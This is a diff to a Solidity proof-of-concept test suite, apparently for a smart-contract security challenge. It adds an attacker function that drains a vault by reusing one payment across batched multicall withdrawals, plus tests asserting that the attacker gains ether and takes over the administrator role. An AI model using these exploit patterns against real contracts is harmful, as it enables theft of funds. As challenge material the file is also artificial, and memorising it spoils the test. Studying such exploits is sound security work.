@@ -17,8 +17,7 @@ interface Vm {
 contract Oracle {
     uint256 internal constant UNIT = 0.004 ether;
 
-    function valueOf(uint256 units, uint256 purity) external view returns (uint256) {
-        require(address(this).balance == 0, "an oracle without ether");
+    function valueOf(uint256 units, uint256 purity) external pure returns (uint256) {
         require(units < 2**32 && purity < 2**16, "out of bounds");
         return units * UNIT + units * purity * 0.00001 ether;
     }
@@ -83,6 +82,13 @@ contract Attacker is Holder {
         writer = new Writer(address(this));
     }
 
+    function leave(uint256 id, uint256 other) external {
+        bytes[] memory calls = new bytes[](2);
+        calls[0] = abi.encodeWithSelector(vault.withdrawLot.selector, id);
+        calls[1] = abi.encodeWithSelector(vault.withdrawLot.selector, other);
+        address(vault).call{value: 1 ether}(abi.encodeWithSelector(vault.multicall.selector, calls));
+    }
+
     function run(uint256 id) external {
         address(vault).call(abi.encodeWithSelector(vault.appraise.selector, id, address(writer)));
     }
@@ -106,6 +112,9 @@ contract Proof {
         vault._depositLot(address(ana), 300, 125);
         vault._depositLot(address(ana), 200, 80);
         vault._depositLot(address(mallory), 20, 60);
+        vault._depositLot(address(mallory), 10, 60);
+        vm.deal(address(mallory), 1 ether);
+        vm.deal(address(vault), 2 ether); // fees of lots that are gone
     }
 
     function test_Regular() public {
@@ -123,7 +132,7 @@ contract Proof {
         require(vault.feeDue(0) == 0.0006 ether, "two weeks");
         require(!attempt(address(ana), abi.encodeWithSelector(ana.withdrawLot.selector, 0, 0.0005 ether)), "too little");
         ana.withdrawLot(0, 0.001 ether);
-        require(address(ana).balance == 0.9994 ether && vault.totalUnits() == 220, "withdrawn, change returned");
+        require(address(ana).balance == 0.9994 ether && vault.totalUnits() == 230, "withdrawn, change returned");
         vault._collectFees(address(0xC0), 0.0006 ether);
         require(!attempt(address(ana), abi.encodeWithSelector(ana.withdrawLot.selector, 0, 0.001 ether)), "twice");
 
@@ -206,9 +215,9 @@ contract Proof {
         vault.appraise(1, odd);
         vault._depositLot(address(ana), 2, 1);
         refuses(address(ana), "the oracle does not answer");
-        vault.appraise(3, odd);
-        refuses(address(ana), "the oracle does not answer");
         vault.appraise(4, odd);
+        refuses(address(ana), "the oracle does not answer");
+        vault.appraise(5, odd);
         vm.expectRevert("the payment was refused");
         vault._collectFees(address(uint160(odd)), 0);
     }
@@ -220,6 +229,15 @@ contract Proof {
     function test_Exploit() public {
         exploit();
         require(vault.admin() == address(mallory), "not the administrator");
+    }
+
+    function exploit2() public {
+        mallory.leave(2, 3);
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(address(mallory).balance >= 2 ether, "nothing gained");
     }
 
     function target() public view returns (address) {
